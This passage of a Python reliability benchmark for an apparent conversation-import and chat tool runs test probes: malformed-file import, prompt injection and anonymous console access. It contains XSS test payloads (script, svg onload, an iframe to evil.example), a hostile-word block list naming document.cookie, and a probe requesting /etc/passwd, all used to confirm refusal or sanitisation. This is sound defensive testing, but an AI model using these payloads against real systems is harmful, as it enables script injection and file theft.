        BadFile("gen_utf16le_nobom.csv", german.encode("utf-16-le"), True, "CSV in UTF-16 LE, no BOM", text="Grüße, wo bleibt"),
        BadFile("gen_utf16be_bom.jsonl", b"\xfe\xff" + russian.encode("utf-16-be"), True, "JSONL in UTF-16 BE with BOM",
                text="Кабель не работает"),
        BadFile("gen_utf16be_nobom.jsonl", russian.encode("utf-16-be"), True, "JSONL in UTF-16 BE, no BOM",
                text="Кабель не работает"),
        BadFile("gen_utf32le_bom.jsonl", b"\xff\xfe\x00\x00" + russian.encode("utf-32-le"), True, "JSONL in UTF-32 LE with BOM",
                text="Кабель не работает"),
        BadFile("gen_utf8_bom.csv", b"\xef\xbb\xbf" + german.encode(), True, "CSV in UTF-8 with BOM", text="Grüße, wo bleibt"),
        BadFile("gen_html_in_csv.csv", html_csv.encode(), True, "CSV with script / svg / iframe / img in text and subject",
                text="My camera is offline", absent=HOSTILE_WORDS),
        BadFile("gen_formulas.csv", formulas.encode(), True, "CSV with formulas in the text, metadata and a column name",
                text="Your order ships today"),
        BadFile("gen_truncated_tail.jsonl", (good + jsonl(conv("cut", "off"))[:25]).encode(), True,
                "JSONL whose last line is cut off (the good lines import, the cut one is rejected)", text="Answer 2"),
        BadFile("gen_truncated.json", json.dumps([conv("hello", "hi there")] * 3).encode()[:70], False,
                "JSON document cut off", r"invalid JSON|line \d+"),
        BadFile("gen_truncated_one.jsonl", jsonl(conv("where is my order?", "It ships today."))[:40].encode(), False,
                "JSONL with its only line cut off", r"line 1"),
        BadFile("gen_binary.bin", bytes(range(256)) * 8, False, "binary bytes", r"binary"),
        BadFile("gen_png.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4, False,
                "a PNG image named .csv", r"binary"),
        BadFile("gen_zip.json", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(200)) * 4, False,
                "a zip archive named .json", r"binary|JSON"),
        BadFile("gen_nul.csv", french.encode().replace(b"aujourd", b"auj\x00\x00ourd"), False,
                "CSV with NUL bytes in a message", ""),
        BadFile("gen_empty.jsonl", b"", False, "empty file", r"empty|no records"),
        BadFile("gen_empty.csv", b"", False, "empty CSV file", r"empty|no records|no rows"),
        BadFile("gen_blank.csv", b"\n\n   \n", False, "CSV of blank lines only", r"empty|no records|no rows"),
        BadFile("gen_bom_only.jsonl", b"\xef\xbb\xbf", False, "a UTF-8 BOM and nothing else", r"empty|no records"),
        BadFile("gen_header_only.csv", b"conversation_id,role,text\n", False, "CSV header, no rows", r"no records|empty"),
        BadFile("gen_page.html", page.encode(), False, "an HTML page with script / svg / iframe",
                r"format|recognise|Accepted"),
        BadFile("gen_html_only.jsonl", jsonl(conv("<script>alert(1)</script>", "<svg onload=alert(1)></svg>"),
                                             conv("<iframe src=https://evil.example></iframe>",
                                                  "<object data=x></object>")).encode(), False,
                "JSONL whose every message is only markup", r"nothing importable"),
        BadFile("gen_latin1.jsonl", jsonl(conv("Où est mon reçu, café ?", "Voilà.")).encode("latin-1"), False,
                "JSONL in Latin-1 (JSON must be UTF-8)", r"UTF-8"),
        BadFile("gen_no_agent.jsonl", jsonl({"messages": [{"role": "user", "content": "hello?"}]}).encode(), False,
                "conversations without an agent reply", r"no assistant message"),
        BadFile("gen_wrong_shape.json", b'[{"foo": 1}, {"bar": 2}]', False, "JSON of something else",
                r"recognise|Accepted|format"),
        BadFile("gen_deep.json", b"[" * 100_000 + b"]" * 100_000, False, "JSON nested 100,000 deep",
                r"nested|deep|recognise|invalid"),
        BadFile("gen_missing.jsonl", None, False, "a file that does not exist", r"no such file"),
    ]


HOSTILE_WORDS = ("alert(", "evil.example", "document.cookie", "steal(", "fallback text")
MARKUP = re.compile(r"<\s*/?\s*(script|svg|iframe|img|a|object|embed|style)\b|\bon[a-z]+\s*=|javascript\s*:|&lt;|&#",
                    re.I)


def _hostile_stored(db: Path, absent: tuple = ()) -> list[str]:
    """What should never be stored: replacement characters, NULs, markup, formulas a spreadsheet would run."""
    from distill.normalize import is_formula

    found = []
    conn = sqlite3.connect(db)
    try:
        for cid, messages, metadata in conn.execute("SELECT id, messages, metadata FROM conversations"):
            values = [m["content"] for m in json.loads(messages)]
            for k, v in json.loads(metadata or "{}").items():
                values += [k] + ([v] if isinstance(v, str) else [json.dumps(v, ensure_ascii=False)])
            for v in values:
                if "\ufffd" in v or "\x00" in v:
                    found.append(f"#{cid}: broken characters")
                if MARKUP.search(v):
                    found.append(f"#{cid}: markup {MARKUP.search(v).group(0)!r}")
                if is_formula(v):
                    found.append(f"#{cid}: formula {v[:30]!r}")
                for word in absent:
                    if word in v:
                        found.append(f"#{cid}: {word!r} stored")
    finally:
        conn.close()
    return found


def probe_badfiles() -> Row:
    from typer.testing import CliRunner

    from assistant.cli import app
    from assistant.store import Store

    row = Row("bad files")
    importable, unexpected, misreported = [], [], []
    runner = CliRunner()
    with tempfile.TemporaryDirectory(prefix="bench-reliability-") as tmp:
        tmp = Path(tmp)
        corpus = bad_file_corpus()
        row.probe = f"bad files ({len(corpus)})"
        for i, f in enumerate(corpus):
            if f.data is None and f.name != "gen_missing.jsonl":
                path = FIXTURES / f.name
            else:
                path = tmp / "files" / f.name
                path.parent.mkdir(exist_ok=True)
                if f.data is not None:
                    path.write_bytes(f.data)
            home = tmp / f"state-{i}"
            store = Store(temp_settings(home).db_path)  # a store that already holds something
            from distill.importer import import_file

            import_file(store, FIXTURES / "sharegpt.json")
            store.close()
            db = home / "assistant.db"
            before, counts_before = snapshot(db), table_counts(db)
            env = {k: None for k in TEACHER_VARS}
            env["ASSISTANT_HOME"] = str(home)
            t0 = time.perf_counter()
            result = runner.invoke(app, ["import", str(path)], env=env)
            wait = time.perf_counter() - t0
            output = " ".join(result.output.split())
            crashed = result.exception is not None and not isinstance(result.exception, SystemExit)
            scratch = list((home / "assistant.db.import-staging").glob("*"))
            row.requests += 1
            row.max_wait = max(row.max_wait or 0.0, wait)
            row.leaks += len(scratch)
            if f.importable:
                added = table_counts(db)["conversations"] - counts_before["conversations"]
                hostile = _hostile_stored(db, f.absent)
                conn = sqlite3.connect(db)
                text_ok = not f.text or any(f.text in m for (m,) in conn.execute("SELECT messages FROM conversations"))
                conn.close()
                ok = result.exit_code == 0 and not crashed and added > 0 and not hostile and text_ok
                how = [m.group(0) for m in re.finditer(r"encoding: [^(;]+|html_sanitised \d+|formula_defused \d+|"
                                                       r"rejected \d+", output)]
                importable.append(f.name)
                row.leaks += len(hostile)
                detail = (f"imported {added}" + (f" ({', '.join(how)})" if how else "") +
                          (f"; STORED {hostile[:3]}" if hostile else "") + ("" if text_ok else "; text garbled"))
            else:
                unchanged = snapshot(db) == before and table_counts(db) == counts_before
                names = f.name in output and re.search(re.escape(f.name) + r":? .{12,}", output)
                reason_ok = not f.reason or re.search(f.reason, output.replace(f.name, ""), re.I)
                ok = result.exit_code != 0 and not crashed and unchanged and bool(names)
                if ok and not reason_ok:
                    misreported.append(f.name)
                row.lost += not unchanged
                missing = [what for what, met in (("exit non-zero", result.exit_code != 0), ("no crash", not crashed),
                                                  ("nothing stored", unchanged), ("names the file", bool(names)),
                                                  ("the real reason", bool(reason_ok))) if not met]
                detail = (f"exit {result.exit_code}: " + (output.replace("error: ", "", 1)[:150] if not crashed else
                                                          f"CRASHED {type(result.exception).__name__}: {result.exception}")
                          + (f" [MISSING: {', '.join(missing)}]" if missing else ""))
            if not ok:
                unexpected.append(f.name)
            row.errors += not ok or f.name in misreported
            say(f"[badfiles] {'OK  ' if ok and f.name not in misreported else 'FAIL'} {f.name:<28} {f.why}: {detail}")
    row.notes = (f"{len(corpus) - len(importable)} refused, {len(importable)} importable after decoding or cleaning "
                 "(stored clean)" + (f"; FAILED: {', '.join(unexpected)}" if unexpected else "")
                 + (f"; reason misreported: {', '.join(misreported)}" if misreported else ""))
    row.targets.append((not unexpected and not row.leaks,
                        f"every bad file: exit non-zero, a message naming the file and a reason, nothing stored "
                        f"({len(corpus) - len(importable)} files; the {len(importable)} importable ones stored clean)"
                        + (f" (failed: {', '.join(unexpected)})" if unexpected else "")))
    row.targets.append((not misreported, "(beyond #11's targets) the reason given is the real one"
                        + (f" (not for: {', '.join(misreported)}: empty, called an unrecognised format or missing columns)"
                           if misreported else "")))
    return row


# ---- 5. injection --------------------------------------------------------------------------------------

def probe_injection() -> Row:
    """tests/test_injection.py's builders and check, run for every injected string; a builder's own test
    function is called with its check swapped for a recorder, so the prompt builders are not copied here."""
    import tests.test_injection as ti

    builders = [
        ("live teacher system prompt", ti.test_live_teacher_system_prompt_keeps_retrieved_text_as_data),
        ("labelling prompt", ti.test_labelling_prompt_keeps_transcript_kb_and_cases_as_data),
        ("judge prompts", ti.test_judge_prompts_keep_transcript_and_replies_as_data),
        ("student grounding", ti.test_student_grounding_keeps_retrieved_text_as_data),
    ]
    row = Row(f"injection ({len(ti.INJECTIONS)} strings x {len(builders)} builders)")
    real = ti.assert_inert
    failed = []
    for name, test in builders:
        captured = []
        ti.assert_inert = lambda build, injection, blocks: captured.append((build, blocks))
        try:
            test(ti.INJECTIONS[0])
        finally:
            ti.assert_inert = real
        build, blocks = captured[0]
        bad = []
        for injection in ti.INJECTIONS:
            row.requests += 1
            try:
                real(build, injection, blocks)
            except AssertionError:
                row.errors += 1
                hostile = build(f"{ti.MARK} {injection} {ti.MARK}")
                benign = build(f"{ti.MARK} harmless words {ti.MARK}")
                if ti.structure(hostile) == ti.structure(benign):
                    row.leaks += 1  # the structure held, but the text landed outside its data block
                bad.append(injection)
        failed += [f"{name}: {b!r}" for b in bad]
        say(f"[injection] {name:<28} {len(ti.INJECTIONS) - len(bad)}/{len(ti.INJECTIONS)} inert"
            + (f"; NOT inert: {bad}" if bad else ""))
    row.lost, row.max_wait = None, None
    row.notes = "every string inert in every builder" if not failed else f"not inert: {'; '.join(failed[:4])}"
    row.targets.append((not failed, f"injection: every string inert in every prompt builder ({row.requests - row.errors}"
                                    f"/{row.requests})"))
    return row


# ---- 6. anonymous console access ------------------------------------------------------------------------

def probe_console() -> Row:
    import httpx
    from gradio_client import Client

    from assistant.web import serve

    row = Row("console, anonymous")
    refused, not_refused = {401, 403}, []
    with tempfile.TemporaryDirectory(prefix="bench-reliability-") as tmp:
        settings = temp_settings(Path(tmp) / "state", ASSISTANT_CONSOLE_USERS="lead:correct-horse-battery")
        services = fake_services(settings)
        running = serve(services, block=False)
        try:
            chat_blocks, console_blocks = running.apps
            console_fns = {i: fn.api_name for i, fn in console_blocks.fns.items()}
            named = sorted({n for n in console_fns.values() if n and not str(n).startswith("false")})
            base = running.console_url
            calls: list[tuple[str, str, dict]] = []
            for name in named:
                calls.append(("POST", f"gradio_api/call/{name}", {"json": {"data": []}}))
                calls.append(("POST", f"gradio_api/run/{name}", {"json": {"data": []}}))
                calls.append(("POST", f"gradio_api/api/{name}", {"json": {"data": []}}))
            for index in console_fns:
                calls.append(("POST", "gradio_api/queue/join",
                              {"json": {"data": [], "fn_index": index, "session_hash": f"anon{index}",
                                        "event_data": None, "trigger_id": None}}))
            calls += [("GET", "config", {}), ("GET", "gradio_api/info", {}), ("GET", "gradio_api/queue/status", {}),
                      ("GET", f"gradio_api/file={settings.db_path}", {}), ("GET", "gradio_api/file=/etc/passwd", {}),
                      ("POST", "gradio_api/upload", {"files": {"files": ("x.jsonl", b'{"messages": []}')}})]
            before = table_counts(settings.db_path)
            for method, path, kwargs in calls:
                t0 = time.perf_counter()
                try:
                    status = httpx.request(method, base + path, timeout=15, **kwargs).status_code
                except httpx.HTTPError as exc:
                    status = type(exc).__name__
                row.max_wait = max(row.max_wait or 0.0, time.perf_counter() - t0)
                row.requests += 1
                if status not in refused:
                    row.errors += 1
                    not_refused.append(f"{method} {path} -> {status}")
            # the sign-in page itself is public: it must not carry the console's functions or data
            page = httpx.get(base, timeout=15)
            page_leaks = [n for n in named if n in page.text]
            row.leaks += len(page_leaks)
            row.lost = sum(abs(table_counts(settings.db_path)[t] - before[t]) for t in before)
            # control: signed in, a console function answers (so the refusals above refused something real;
            # the console's functions are undocumented, so calling one is the check, not listing them)
            try:
                Client(base, auth=("lead", "correct-horse-battery"), verbose=False).predict(api_name="/job_status")
                control, signed_in = True, "a signed-in call to /job_status answered"
            except Exception as exc:
                control, signed_in = False, f"signed in, /job_status failed: {exc}"
            # the public chat: no console function in its API, and none callable through it
            chat_api = set(Client(running.chat_url, verbose=False).view_api(print_info=False, return_format="dict")
                           ["named_endpoints"])
            chat_names = {str(fn.api_name) for fn in chat_blocks.fns.values()}
            in_chat = sorted(({n.lstrip("/") for n in chat_api} | chat_names) & set(named))
            through_chat, chat_statuses = [], set()
            import logging

            asgi_log = logging.getLogger("uvicorn.error")
            level, asgi_log.level = asgi_log.level, logging.CRITICAL  # Gradio logs a traceback for an unknown name
            try:
                for name in named:
                    status = httpx.post(f"{running.chat_url}gradio_api/call/{name}", json={"data": []},
                                        timeout=15).status_code
                    chat_statuses.add(status)
                    row.requests += 1
                    if status < 400:
                        through_chat.append(f"{name} -> {status}")
            finally:
                asgi_log.setLevel(level)
            row.errors += len(in_chat) + len(through_chat)
        finally:
            close_quietly(running)
    say(f"[console] {len(calls)} anonymous calls to the console ({len(named)} named functions, {len(console_fns)} "
        f"by index, config, info, files, upload): {len(calls) - len(not_refused)} refused"
        + (f"; NOT refused: {not_refused}" if not_refused else ""))
    say(f"[console] {signed_in}; the public chat lists "
        f"{sorted(chat_api)}: console functions in it {in_chat or 'none'}, callable through it "
        f"{through_chat or 'none'} (HTTP {sorted(chat_statuses)}); the anonymous sign-in page names "
        f"{page_leaks or 'no console function'}")
    row.notes = (f"{len(calls) - len(not_refused)}/{len(calls)} anonymous console calls refused; chat API: "
                 f"{', '.join(sorted(chat_api))}"
                 + (f"; the sign-in page describes {len(page_leaks)} console functions" if page_leaks else "")
                 + ("" if control else f"; CONTROL FAILED: {signed_in}"))
    row.targets.append((not not_refused and control and not row.lost,
                        f"anonymous access to any console function: refused ({len(calls) - len(not_refused)}/{len(calls)})"))
    row.targets.append((not in_chat and not through_chat,
                        "the public chat's API lists no console function and calls to one fail"))
    row.targets.append((not page_leaks, "(beyond #11's targets) the console's anonymous sign-in page describes none of "
                                        f"its functions (it describes {len(page_leaks)}: window.gradio_api_info)"))
    return row


# ---- the run -------------------------------------------------------------------------------------------

PROBES = ("load", "teacher", "kill", "badfiles", "injection", "console")


def _fmt(value, unit: str = "") -> str:
    if value is None:
        return "-"
    if isinstance(value, float):
        return f"{value:.2f}{unit}"
    return f"{value:,}{unit}"


def print_table(rows: list[Row]) -> None:
    header = ("probe", "requests", "errors", "lost rows", "max wait", "leaks", "notes")
    cells = [header] + [(r.probe, _fmt(r.requests), _fmt(r.errors), _fmt(r.lost), _fmt(r.max_wait, " s"),
                         _fmt(r.leaks), r.notes) for r in rows]
    widths = [max(len(c[i]) for c in cells) for i in range(len(header) - 1)]
    say()
    for n, c in enumerate(cells):
        say("  ".join(c[i].ljust(widths[i]) if i == 0 else c[i].rjust(widths[i]) for i in range(len(widths)))
            + "  " + c[-1])
        if n == 0:
            say("  ".join("-" * w for w in widths) + "  " + "-" * 5)
    say()
    for r in rows:
        for met, what in r.targets:
            say(f"{'PASS' if met else 'FAIL'}  {what}")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", default=",".join(PROBES), help=f"comma-separated probes: {', '.join(PROBES)}")
    parser.add_argument("--quick", action="store_true", help="small sizes for a fast check: " +
                        ", ".join(f"{k} {v:,}" for k, v in QUICK.items()))
    parser.add_argument("--clients", type=int, help=f"load: concurrent chat clients (default {DEFAULTS['clients']})")
    parser.add_argument("--seconds", type=float, help=f"load: seconds of chatting, at least (default {DEFAULTS['seconds']:g})")
    parser.add_argument("--conversations", type=int,
                        help=f"load: conversations imported alongside (default {DEFAULTS['conversations']:,})")
    parser.add_argument("--think", type=float, default=0.05, help="load: seconds each client waits between messages")
    parser.add_argument("--per-session", type=int, default=8, help="load: messages per chat session, then a new one")
    parser.add_argument("--kill-conversations", type=int,
                        help=f"kill: conversations in the import that is killed (default {DEFAULTS['kill_conversations']:,})")
    parser.add_argument("--fault-repeats", type=int, default=1, help="teacher: requests per fault")
    parser.add_argument("--reply-target", type=float, default=REPLY_TARGET_S, help="teacher: seconds a reply may take")
    parser.add_argument("--child", nargs="+", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.child:
        if args.child[0] == "clients":
            _child_clients(json.loads(args.child[1]))
        elif args.child[0] == "import":
            _child_import(args.child[1], args.child[2])
        return 0
    sizes = QUICK if args.quick else DEFAULTS
    for key, value in sizes.items():
        if getattr(args, key) is None:
            setattr(args, key, value)
    only = [p.strip() for p in args.only.split(",") if p.strip()]
    unknown = set(only) - set(PROBES)
    if unknown:
        parser.error(f"unknown probe(s) {', '.join(sorted(unknown))}; choose from {', '.join(PROBES)}")
    try:
        os.nice(10)  # a shared machine: the children inherit it
    except OSError:
        pass
    import logging

    logging.basicConfig(level=logging.ERROR)  # the probes provoke failures on purpose: their warnings are expected
    runs = {
        "load": lambda: probe_load(args.clients, args.seconds, args.conversations, args.think, args.per_session),
        "teacher": lambda: probe_teacher(args.fault_repeats, args.reply_target),
        "kill": lambda: probe_kill(args.kill_conversations),
        "badfiles": probe_badfiles,
        "injection": probe_injection,
        "console": probe_console,
    }
    rows = []
    started = time.perf_counter()
    for name in PROBES:
        if name in only:
            t0 = time.perf_counter()
            say(f"== {name}")
            try:
                rows.append(runs[name]())
            except Exception as exc:  # one probe that breaks does not hide the others' results
                import traceback

                traceback.print_exc()
                rows.append(Row(name, errors=1, lost=None, leaks=None, notes=f"PROBE CRASHED: {type(exc).__name__}: {exc}",
                                targets=[(False, f"{name}: the probe itself crashed ({type(exc).__name__}: {exc})")]))
            say(f"   ({time.perf_counter() - t0:.0f} s)")
    print_table(rows)
    met = all(m for r in rows for m, what in r.targets if not what.startswith("(beyond"))
    extra = sum(not m for r in rows for m, what in r.targets if what.startswith("(beyond"))
    say(f"\n{'all of #11' + chr(39) + 's targets met' if met else 'TARGETS MISSED'}"
        + (f"; {extra} finding(s) beyond them" if extra else "") + f" ({time.perf_counter() - started:.0f} s)")
    return 0 if met else 1


if __name__ == "__main__":
    sys.exit(main())
